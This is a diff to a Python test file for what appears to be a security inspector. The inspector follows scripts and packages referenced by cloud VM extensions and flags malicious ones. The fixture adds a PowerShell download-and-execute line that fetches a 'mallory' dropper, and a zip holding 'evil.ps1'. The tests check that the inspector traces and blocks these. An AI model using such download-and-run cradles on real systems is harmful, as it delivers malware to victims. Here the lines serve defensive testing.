@@ -36,12 +36,17 @@ async def raw_github() -> AsyncIterator[int]:
     files = {
         "/mallory/payloads/main/install.ps1": DROPPER,
         "/contoso/templates/master/iis.ps1": HARMLESS,
+        # A second stage: the URL is completed with the server's port when served.
+        "/contoso/templates/master/bootstrap.ps1": b"iex (iwr 'http://raw.githubusercontent.com:{port}"
+                                                   b"/mallory/payloads/main/install.ps1' -UseBasicParsing).Content\r\n",
         "/contoso/templates/master/dsc/cfg.ps1.zip": zip_bytes({"cfg.ps1": HARMLESS, "mod/evil.ps1": DROPPER}),
     }
 
     async def serve(request: web.Request) -> web.StreamResponse:
         body = files.get(request.path)
-        return web.Response(body=body) if body is not None else web.Response(status=404)
+        if body is None:
+            return web.Response(status=404)
+        return web.Response(body=body.replace(b"{port}", str(request.url.port).encode()))
 
     app = web.Application()
     app.router.add_get("/{tail:.*}", serve)
@@ -126,3 +131,28 @@ async def test_offline_signals_reach_the_verdict_without_fetching(fake_github: F
     assert verdict.complete is False and fake_github.hits == []
 
 
+
+
+async def test_urls_found_in_a_fetched_script_are_fetched_as_a_second_stage(
+    inspector: Inspector, raw_github: int
+) -> None:
+    url = f"http://raw.githubusercontent.com:{raw_github}/contoso/templates/master/bootstrap.ps1"
+    verdict = (await inspector.inspect(cse(url, command="powershell -File bootstrap.ps1"))).verdict
+    by_url = {f.url: f for f in verdict.fetches}
+    stage2 = f"http://raw.githubusercontent.com:{raw_github}/mallory/payloads/main/install.ps1"
+    assert by_url[url].depth == 0 and by_url[url].fetched
+    assert stage2 in by_url and by_url[stage2].depth == 1 and by_url[stage2].role == "referenced"
+    assert by_url[stage2].fetched and by_url[stage2].bytes == len(DROPPER)
+
+
+async def test_a_dsc_package_from_github_is_fetched_unpacked_and_judged(inspector: Inspector, raw_github: int) -> None:
+    url = f"http://raw.githubusercontent.com:{raw_github}/contoso/templates/master/dsc/cfg.ps1.zip"
+    body = {"properties": {"publisher": "Microsoft.Powershell", "type": "DSC", "typeHandlerVersion": "2.77",
+                           "settings": {"configuration": {"url": url, "script": "cfg.ps1", "function": "Cfg"}}}}
+    verdict = (await inspector.inspect(InspectionInput(kind=InputKind.EXTENSION, body=body))).verdict
+    package, stage2 = verdict.fetches
+    assert package.url == url and package.fetched and package.role == "configuration"
+    assert {"zip:cfg.ps1", "zip:mod/evil.ps1"} <= {a.origin for a in verdict.artifacts}
+    # The dropper inside names a public address: closed-network mode refuses it, no packet leaves.
+    assert (stage2.url, stage2.error, stage2.depth) == ("http://203.0.113.50:8080/svc.exe", "blocked_address", 1)
+    assert "VM_DSCExtensionSuspiciousScript" in {a.alertType for a in verdict.alerts}
